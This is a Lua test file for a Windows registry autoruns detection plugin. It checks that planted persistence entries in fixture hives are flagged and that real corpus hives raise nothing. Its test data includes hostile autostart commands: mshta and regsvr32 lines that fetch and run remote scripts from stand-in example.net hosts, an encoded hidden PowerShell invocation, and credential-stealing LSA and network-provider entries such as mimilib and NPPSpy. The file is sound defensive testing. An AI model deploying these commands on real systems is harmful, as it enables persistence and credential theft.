-- The autoruns policy on rows the plugin collects: the fixture hives
-- (testdata/autoruns/*.spec: Windows 10 stock values with one planted entry
-- per rule) and the real hives of HH_CORPUS, whose every autostart entry is
-- legitimate. Runs under `hivehunt lua` (plugin.autoruns).
local regf = require "hh.regf"
local plugin = require "plugin.autoruns"
local autoruns = require "autoruns"
local RANK = require("hh.policy").RANK

local testdata = os.getenv("HH_TESTDATA")
local corpus = os.getenv("HH_CORPUS")

local function exists(path)
  local f = io.open(path, "rb")
  if f then f:close() end
  return f ~= nil
end

local function hunt(hives, extra)
  local input = assert(plugin.collect(hives))
  for k, v in pairs(extra or {}) do input[k] = v end
  return autoruns.evaluate(input, {}), input
end

-- Planted entries: rule and the entry's command (or, for lists, the
-- element) as written in the spec.
local PLANTED = {
  NTUSER = {
    { "rare-location", [[C:\Users\alice\AppData\Roaming\Microsoft\logon.bat]] },
    { "interpreter-command", [[C:\Users\alice\AppData\Roaming\Microsoft\logon.bat]] },
    { "path-user-writable", [[C:\Users\alice\AppData\Local\Temp\wupd.exe]] },
    { "interpreter-command", [[mshta.exe http://update.example.net/p.hta]] },
    { "rare-location", [[C:\Windows\Tasks\pol.exe]] },
    { "path-user-writable", [[C:\Windows\Tasks\pol.exe]] },
    { "startup-folder-redirected", [[C:\Users\Public\Libraries\Startup]] },
    { "winlogon-nonstock", [[C:\Users\alice\AppData\Roaming\Microsoft\shell.exe]] },
    { "rare-location", [[C:\Users\alice\AppData\Roaming\Microsoft\load.exe]] },
  },
  SOFTWARE = {
    { "winlogon-nonstock", [[C:\ProgramData\Microsoft\Network\netmon.exe]] },
    { "rare-location", [[C:\Program Files\Tools\tm.exe]] },
    { "dll-outside-system32", [[C:\Windows\Tasks\notify.dll]] },
    { "appinit-dlls", [[C:\ProgramData\Acme\hook.dll]] },
    { "ifeo-debugger", [[C:\Windows\System32\cmd.exe]] },
    { "silent-process-exit", [[C:\Users\Public\Libraries\mon.exe]] },
    { "path-user-writable", [[C:\Windows\Temp\upd.exe]] },
    { "name-random", [[C:\ProgramData\qzvwkhmtrx\qzvwkhmtrx.exe]] },
    { "path-programdata", [[C:\ProgramData\qzvwkhmtrx\qzvwkhmtrx.exe]] },
    { "binary-impersonation", [[C:\ProgramData\Intel\svchost.exe -k netsvcs]] },
    { "interpreter-command", [[powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=]] },
    { "interpreter-command", [[regsvr32 /s /n /u /i:https://cdn.example.net/a.sct scrobj.dll]] },
    { "rare-location", [[%ProgramData%\cmdinit.cmd]] },
    { "dll-outside-system32", [[{D1B7F0A2-3C4D-4E5F-8A9B-0C1D2E3F4A5B}]] },
    { "dll-outside-system32", [[C:\ProgramData\nshelper.dll]] },
  },
  SYSTEM = {
    { "boot-execute-nonstock", [[bootsvc \??\C:\ProgramData\b.log]] },
    { "appcert-dlls", [[C:\ProgramData\certhook.dll]] },
    { "lsa-package-nonstock", "pwfilter" },
    { "lsa-package-nonstock", "mimilib" },
    { "path-user-writable", [[C:\Windows\System32\spool\drivers\color\pmon.dll]] },
    { "network-provider-nonstock", "NPPSpy" },
    { "dll-outside-system32", [[C:\ProgramData\ntpsync.dll]] },
  },
}

-- Stock or vendor entries that may give a low finding (and nothing more).
local LOW_OK = {
  [[C:\Users\alice\AppData\Local\AcmeSync\acmesync.exe --tray]],   -- per-user vendor in AppData
  [["C:\Tools\SysinternalsSuite\procexp64.exe"]],                  -- Process Explorer for taskmgr
}

describe("autoruns on the fixture hives", function()
  for kind, planted in pairs(PLANTED) do
    it(kind .. ": every planted entry at medium or above, stock entries below high", function()
      local path = testdata .. "/autoruns/" .. kind
      assert.is_true(exists(path), path .. " not built")
      local hive = assert(regf.open(path))
      local findings = hunt(kind == "NTUSER" and { users = { { hive = hive, user = "alice" } } } or hive)
      local got, planted_cmd = {}, {}
      for _, p in ipairs(planted) do planted_cmd[p[2]] = true end
      local low_ok = {}
      for _, c in ipairs(LOW_OK) do low_ok[c] = true end
      for _, f in ipairs(findings) do
        got[f.rule .. " " .. tostring(f.command)] = f.severity
        assert.equal("autoruns", f.plugin)
        for _, k in ipairs { "technique", "hive", "hive_kind", "key", "location", "command" } do
          assert.is_not_nil(f[k], f.rule .. " lacks " .. k)
        end
        if not planted_cmd[f.command] then
          -- stock: nothing at all, or low for the listed vendor entries
          assert.is_true(low_ok[f.command] and f.severity == "low",
            ("stock entry flagged: %s %s %s"):format(f.rule, f.severity, tostring(f.command)))
        end
        if f.hive_kind == "SYSTEM" then
          assert.is_true(f.current, "planted only in the current set: " .. f.rule)
        end
      end
      for _, p in ipairs(planted) do
        local sev = got[p[1] .. " " .. p[2]]
        assert.is_not_nil(sev, "missing " .. p[1] .. " on " .. p[2])
        assert.is_true(RANK[sev] >= RANK.medium, p[1] .. " only " .. sev)
      end
    end)
  end

  it("sets binary on the rows later plugins read", function()
    local _, input = hunt(assert(regf.open(testdata .. "/autoruns/SOFTWARE")))
    local by = {}
    for _, r in ipairs(input.rows) do by[r.command] = r end
    assert.equal([[c:\programdata\intel\svchost.exe]], by[ [[C:\ProgramData\Intel\svchost.exe -k netsvcs]] ].binary)
    assert.equal("-k netsvcs", by[ [[C:\ProgramData\Intel\svchost.exe -k netsvcs]] ].arguments)
    assert.equal([[c:\programdata\shell\shupd.dll]], by["{D1B7F0A2-3C4D-4E5F-8A9B-0C1D2E3F4A5B}"].binary)
  end)

  it("diffs against a baseline: the stock control set as the golden host", function()
    local sys = assert(regf.open(testdata .. "/autoruns/SYSTEM"))
    local input = assert(plugin.collect(sys))
    -- ControlSet002 holds the stock values: made the baseline's current set
    local base = { rows = {} }
    for _, r in ipairs(input.rows) do
      if r.control_set == "ControlSet002" then
        local c = {}
        for k, v in pairs(r) do c[k] = v end
        c.current = true
        base.rows[#base.rows + 1] = c
      end
    end
    input.baseline = base
    local rules = {}
    for _, f in ipairs(autoruns.evaluate(input, {})) do
      if f.rule:find("^baseline%-") then rules[f.command] = f.rule end
    end
    for _, c in ipairs { [[C:\ProgramData\certhook.dll]], "pwfilter", "mimilib", [[bootsvc \??\C:\ProgramData\b.log]],
                         "NPPSpy", [[C:\ProgramData\ntpsync.dll]] } do
      assert.equal("baseline-added", rules[c], c)
    end
    for _, c in ipairs { "scecli", "autocheck autochk *", "msv1_0", "kerberos", "RDPNP", "localspl.dll" } do
      assert.is_nil(rules[c], c)
    end
  end)
end)

describe("autoruns on the real hives", function()
  local hives = {
    "ntuser/artemis_Win10_Default_NTUSER.DAT", "ntuser/museum_Win11_NTUSER.DAT", "ntuser/notatin_win7_ntuser.dat",
    "ntuser/plaso_NTUSER-RunTests.DAT", "ntuser/plaso_NTUSER_XP.DAT", "regipy/NTUSER.DAT",
    "regipy/SYSTEM", "regipy/SYSTEM_B", "winevt-kb/SYSTEM_XP", "aiowinreg/SYSTEM", "aiowinreg/SOFTWARE",
  }
  for _, rel in ipairs(hives) do
    it(rel .. ": nothing at high or above", function()
      local path = (corpus or "") .. "/" .. rel
      if not exists(path) then return pending("corpus hive " .. rel .. " absent") end
      local findings = hunt(assert(regf.open(path)))
      for _, f in ipairs(findings) do
        assert.is_true(RANK[f.severity] < RANK.high, ("%s %s %s"):format(f.rule, f.severity, tostring(f.command)))
      end
      -- measured: no finding at all on these hives (the README lists them)
      assert.same({}, findings)
    end)
  end
end)
